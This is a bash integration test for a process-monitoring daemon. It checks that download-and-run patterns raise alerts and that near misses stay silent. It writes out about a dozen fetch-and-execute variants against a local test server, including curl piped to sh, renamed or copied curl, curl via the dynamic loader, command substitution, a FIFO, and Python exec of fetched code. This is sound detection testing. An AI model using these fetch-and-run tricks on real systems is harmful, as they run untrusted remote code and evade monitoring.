#!/usr/bin/env bash
# Download-and-run, detected on what the caller cannot forge (exe, the program the
# dynamic loader loads, file identity), with the default exec source (audit), for real
# processes in a real session fetching from an HTTP peer in a network namespace of the
# test (198.19.N.2, behind a veth; the session runs in the host's namespace). Each
# variant must raise its alert with refs to the exact exec; near misses must not:
#   curl | sh; exec -a renamed curl; a copied curl; a copied shell; curl through
#   ld-linux; bash -c "$(curl)"; backticks; download, chmod +x, run (a script and an ELF);
#   curl | bash -c 'eval "$(cat)"'; a FIFO; python3 -c "exec(urlopen(...).read())".
#   Near misses: a downloaded file only read; a local script piped to a shell; argv[0]
#   named curl on a program that is not; a download captured by the shell and not run;
#   python fetching without exec/eval.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/session_helpers.sh"
require_root
for t in curl python3 bash; do command -v $t >/dev/null || { echo "$t missing"; exit 1; }; done

# ---- the HTTP peer -------------------------------------------------------------------------
http_peer sgdl $((200 + $$ % 50))
printf 'sleep 0.3; true\n' >"$WWW/p.sh"
printf '#!/bin/sh\nsleep 0.2\n' >"$WWW/run.sh"
cp /bin/true "$WWW/tool"
printf 'x = 1\n' >"$WWW/p.py"
wait_for "http peer" 10 curl -sf -o /dev/null "$URL/p.sh"

write_config "$T_TMP/c.yaml" "gateway: {enabled: false}
audit:
  sensitive_paths: []
detection:
  rate_limit: 1000"
start_daemon a --config "$T_TMP/c.yaml"
W=$T_TMP/work
mkdir -p "$W"
sg session create --id s1 --workdir "$W" >/dev/null && sg session start s1 >/dev/null
sgrun --session s1 -- sleep 300 >/dev/null 2>&1 &
KEEP=$!
cleanup "kill $KEEP"
cp /usr/bin/curl "$W/fetchy"
cp "$(readlink -f /bin/sh)" "$W/mysh"
LD=/lib64/ld-linux-x86-64.so.2

# alert_for RULE JQ-FILTER: an alert of RULE in s1 whose refs hold the seq of an event
# matching the filter.
alert_for() {
	journal_lines "$SG_STATE" | jq -se --arg r "$1" "
		[.[] | select(.event != \"alert\" and ($2)) | .seq] as \$q |
		any(.[]; .event == \"alert\" and .rule == \$r and .session_id == \"s1\" and
		    any(.refs[]; . as \$x | \$q | index(\$x) != null))" >/dev/null
}
none() { ! "$@"; }
# exec_with V: the exec whose arguments name ?v=V
exec_with() { echo ".event == \"process.exec\" and any(.args[]?; test(\"v=$1\$\"))"; }
run() { sgrun --session s1 -- sh -c "$1" >/dev/null 2>&1; }
script() { printf '%s\n' "$2" >"$W/$1.sh"; sgrun --session s1 -- sh "$W/$1.sh" >/dev/null 2>&1; }

run "curl -s $URL/p.sh?v=1 | sh"
run "bash -c '(exec -a innocent curl -s $URL/p.sh?v=2) | sh'"
run "$W/fetchy -s $URL/p.sh?v=3 | sh"
run "curl -s $URL/p.sh?v=4 | $W/mysh"
run "$LD /usr/bin/curl -s $URL/p.sh?v=5 | sh"
script s6 "bash -c \"\$(curl -s $URL/p.sh?v=6)\""
script s7 "bash -c \"\`curl -s $URL/p.sh?v=7\`\""
script s8 "curl -s -o $W/dl8 $URL/run.sh?v=8; chmod +x $W/dl8; $W/dl8"
script s9 "curl -s -o $W/dl9 $URL/tool?v=9; chmod +x $W/dl9; $W/dl9"
run "curl -s $URL/p.sh?v=10 | bash -c 'eval \"\$(cat)\"'"
script s11 "mkfifo $W/fifo; curl -s $URL/p.sh?v=11 > $W/fifo & sh < $W/fifo; wait"
sgrun --session s1 -- python3 -c "from urllib.request import urlopen; exec(urlopen('$URL/p.py?v=12').read())"
# near misses
script s13 "curl -s -o $W/r13 $URL/run.sh?v=13; cat $W/r13 > /dev/null; sleep 0.2"
printf 'sleep 0.3; true\n' >"$W/local.sh"
run "cat $W/local.sh | sh"
run "bash -c '(exec -a curl cat $W/local.sh) | sh'"
script s14 "out=\$(curl -s $URL/p.sh?v=14); echo \"\$out\" > /dev/null; sleep 0.2"
sgrun --session s1 -- python3 -c "from urllib.request import urlopen; print(len(urlopen('$URL/p.py?v=15').read()))" >/dev/null
sgrun --session s1 -- /bin/true end-marker
wait_for "the last exec" 10 sh -c "[ -n \"\$(cat '$SG_STATE'/journal/*.jsonl | grep -F end-marker)\" ]"
sleep 1

check "curl | sh" alert_for pipe-to-shell "$(exec_with 1)"
check "exec -a innocent curl | sh (argv[0] innocent, exe curl)" \
	alert_for pipe-to-shell "$(exec_with 2) and .cmd == \"innocent\""
check "a copy of curl under another name | sh (exe_known_as curl)" \
	alert_for pipe-to-shell "$(exec_with 3) and .exe_known_as == \"curl\""
check "curl | a copy of the shell under another name" \
	alert_for pipe-to-shell ".event == \"process.exec\" and .exe == \"$W/mysh\""
check "curl through the dynamic loader | sh (program /usr/bin/curl)" \
	alert_for pipe-to-shell "$(exec_with 5) and .program == \"/usr/bin/curl\""
check "bash -c \"\$(curl ...)\" (command substitution)" alert_for pipe-to-shell "$(exec_with 6)"
check "bash -c \"\`curl ...\`\" (backticks)" alert_for pipe-to-shell "$(exec_with 7)"
check "download, chmod +x, run a script: exec_of_downloaded_file" \
	alert_for exec_of_downloaded_file "(.event | startswith(\"file.\")) and .path == \"$W/dl8\""
check "download, chmod +x, run a program: exec_of_downloaded_file" \
	alert_for exec_of_downloaded_file ".event == \"process.exec\" and .exe == \"$W/dl9\""
check "curl | bash -c 'eval \"\$(cat)\"'" \
	alert_for pipe-to-shell ".event == \"process.exec\" and any(.args[]?; test(\"eval\"))"
check "curl > fifo & sh < fifo" alert_for pipe-to-shell "$(exec_with 11)"
check "python3 -c exec(urlopen(...).read())" alert_for download-and-run-inline \
	'.event == "process.exec" and any(.args[]?; test("p.py.v=12"))'
check "near miss: a downloaded file only read" \
	none alert_for exec_of_downloaded_file "(.event | startswith(\"file.\")) and .path == \"$W/r13\""
check "near miss: a local script piped to a shell" \
	none alert_for pipe-to-shell ".event == \"process.exec\" and any(.args[]?; . == \"$W/local.sh\")"
e=$(ev process.exec s1 | jq -c 'select(.args[0]? == "end-marker")')
jcheck "process.exec says args_source kernel, program, exe_known_as" "$e" \
	'.args_source == "kernel" and .program == "/usr/bin/true" and has("exe_known_as")'
check "near miss: argv[0] curl on cat | sh (the exe is cat)" \
	none alert_for pipe-to-shell ".event == \"process.exec\" and .cmd == \"curl\" and .exe == \"$(readlink -f /bin/cat)\""
check "near miss: a download captured by the shell, no shell run on it" \
	none alert_for pipe-to-shell "$(exec_with 14)"
check "near miss: python fetching without exec/eval" \
	none alert_for download-and-run-inline '.event == "process.exec" and any(.args[]?; test("p.py.v=15"))'
n=$(journal_lines "$SG_STATE" | jq -c 'select(.event == "alert" and .rule == "exec_of_downloaded_file")' | wc -l)
check "exec_of_downloaded_file: exactly the two runs ($n)" test "$n" -eq 2
if [ "$FAILED" -gt 0 ]; then
	journal_lines "$SG_STATE" | jq -c 'select(.event == "alert") | [.rule, .refs, .summary]' >&2
fi
stop_daemon
check "daemon exits 0" test $? -eq 0
finish
